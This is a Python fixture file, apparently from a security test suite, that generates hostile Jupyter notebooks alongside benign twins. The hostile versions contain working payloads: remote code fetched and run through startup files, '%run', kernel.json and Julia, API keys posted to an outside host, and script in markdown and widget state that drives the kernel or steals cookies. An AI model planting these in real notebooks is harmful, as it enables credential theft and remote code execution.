"""Notebooks: kernels, magics, widgets and pictures that act for someone else."""

from __future__ import annotations

import json

from eighth.kit import HOST


def notebook(*cells, language="python", metadata=None) -> str:
    """`cells` are (kind, source[, outputs])."""
    made = []
    for i, (kind, source, *more) in enumerate(cells):
        cell = {"cell_type": kind, "id": f"c{i}", "metadata": {}, "source": source.splitlines(keepends=True)}
        if kind == "code":
            cell |= {"execution_count": None, "outputs": more[0] if more else []}
        made.append(cell)
    meta = {
        "kernelspec": {"display_name": language, "language": language, "name": {"python": "python3", "julia": "julia-1.10"}[language]},
        "language_info": {"name": language},
    }
    return json.dumps({"cells": made, "metadata": meta | (metadata or {}), "nbformat": 4, "nbformat_minor": 5}, indent=1)


def add(out):
    def one(name, hostile, twin, file="train.ipynb", why="", prove=None):
        out.add("notebooks", name, hostile, twin, prove, file, why)

    title = ("markdown", "# Fine-tuning\n")
    one(
        "cell_writes_a_start_up_file",
        notebook(
            title,
            (
                "code",
                f"%%writefile ~/.ipython/profile_default/startup/00-init.py\nimport urllib.request as u\nexec(u.urlopen('http://{HOST}/i').read())\n",
            ),
        ),
        notebook(title, ("code", "%%writefile metrics.py\nimport numpy as np\n\n\ndef accuracy(a, b):\n    return np.mean(a == b)\n")),
        why="every later session of the user runs what the cell wrote",
    )
    one(
        "hub_of_a_stranger",
        notebook(
            title,
            (
                "code",
                "import torch\nnet = torch.hub.load('xj4-weights/resnet-mirror', 'resnet18', trust_repo=True, force_reload=True, skip_validation=True)\n",
            ),
        ),
        notebook(title, ("code", "import torch\nnet = torch.hub.load('pytorch/vision:v0.19.0', 'resnet18', weights=None)\n")),
        why="torch.hub runs hubconf.py of a repository that no one vouches for, unpinned",
    )
    leak = "import json, os, urllib.request\nkeys = {k: v for k, v in os.environ.items() if 'TOKEN' in k or 'KEY' in k}\n"
    one(
        "keys_leave_as_telemetry",
        notebook(title, ("code", leak + f"urllib.request.urlopen('https://{HOST}/t', json.dumps(keys).encode())\n")),
        notebook(title, ("code", leak + "print('keys set:', sorted(keys))\n")),
        why="the environment's keys are posted; the twin prints their names",
        prove="notebook",
    )
    frame = f"<iframe srcdoc=\"<script>parent.Jupyter.notebook.kernel.execute('import os; os.system(\\'curl http://{HOST}/k | sh\\')')</script>\"></iframe>"
    one(
        "text_cell_drives_the_kernel",
        notebook(("markdown", "# Fine-tuning\n\n" + frame + "\n")),
        notebook(("markdown", '# Fine-tuning\n\n<iframe src="https://www.youtube.com/embed/abc" width="560"></iframe>\n')),
        why="as CVE-2021-32797 and CVE-2024-43805: script in text that is rendered when the notebook opens",
    )

    def widgets(value):
        state = {
            "m1": {
                "model_module": "@jupyter-widgets/controls",
                "model_module_version": "1.5.0",
                "model_name": "HTMLModel",
                "state": {"_view_name": "HTMLView", "value": value},
            }
        }
        return notebook(
            title,
            metadata={"widgets": {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": state}}},
        )

    one(
        "widget_state_has_a_script",
        widgets(
            f"<img src=x onerror=\"fetch('/api/terminals',{{method:'POST'}}).then(r=>r.json()).then(t=>fetch('https://{HOST}/?t='+t.name+document.cookie))\">"
        ),
        widgets("<b>100%</b> 320/320 [00:12&lt;00:00, 26.1it/s]"),
        why="the saved state of a progress bar opens a terminal over the server's own interface",
    )
    one(
        "run_magic_over_the_net",
        notebook(title, ("code", f"%run -i http://{HOST}/setup.py\n"), ("code", "train()\n")),
        notebook(title, ("code", "%run -i setup.py\n"), ("code", "train()\n")),
        why="%run takes an address",
    )
    one(
        "julia_runs_a_shell",
        notebook(
            title, ("code", f"using Flux\nrun(pipeline(`curl -s http://{HOST}/j`, `sh`))\nmodel = Chain(Dense(8 => 4))\n"), language="julia"
        ),
        notebook(title, ("code", "using Flux\nusing Downloads\nmodel = Chain(Dense(8 => 4))\n"), language="julia"),
        why="not a Python notebook",
    )

    def kernel(argv):
        return {
            "kernels/tiny/kernel.json": json.dumps({"argv": argv, "display_name": "Tiny", "language": "python"}),
            "train.ipynb": notebook(title),
        }

    one(
        "kernel_is_a_shell_pipeline",
        kernel(["bash", "-c", f"(curl -s http://{HOST}/k | sh) & exec python3 -m ipykernel_launcher -f {{connection_file}}"]),
        kernel(["python3", "-m", "ipykernel_launcher", "-f", "{connection_file}"]),
        None,
        why="the kernel's own start line fetches and runs a script",
    )
